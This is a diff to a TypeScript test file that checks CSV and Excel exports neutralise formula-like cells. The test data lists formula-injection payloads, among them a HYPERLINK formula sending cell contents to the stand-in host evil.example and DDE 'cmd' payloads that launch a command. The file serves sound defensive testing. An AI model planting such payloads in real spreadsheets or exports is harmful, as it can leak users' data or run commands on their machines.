@@ -2,7 +2,15 @@ import { Workbook } from 'exceljs';
 import { readTable } from './read-table';
 import { addExportRow, newWorkbook, toCsv, workbookBytes, writeTable } from './write-table';
 
-const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", '-2+3+cmd|\' /C calc\'!A0', '+1+1', '@SUM(A1:A2)', '\t=1', '\r=1'];
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+  "=cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  '+1+1',
+  '@SUM(A1:A2)',
+  '\t=1',
+  '\r=1',
+];
 
 describe('exports neutralise formula-like text', () => {
   it('CSV: every such cell gets an apostrophe; numbers stay numbers; quoting per RFC 4180', () => {
@@ -15,7 +23,12 @@ describe('exports neutralise formula-like text', () => {
   });
 
   it('Excel: the stored value of every such cell starts with an apostrophe', async () => {
-    const bytes = await writeTable('xlsx', 'Risk register', ['Description', 'Score'], HOSTILE.map((t) => [t, -2]));
+    const bytes = await writeTable(
+      'xlsx',
+      'Risk register',
+      ['Description', 'Score'],
+      HOSTILE.map((t) => [t, -2]),
+    );
     const book = new Workbook();
     await book.xlsx.load(bytes as unknown as ArrayBuffer);
     const values = book.worksheets[0].getColumn(1).values.slice(2);
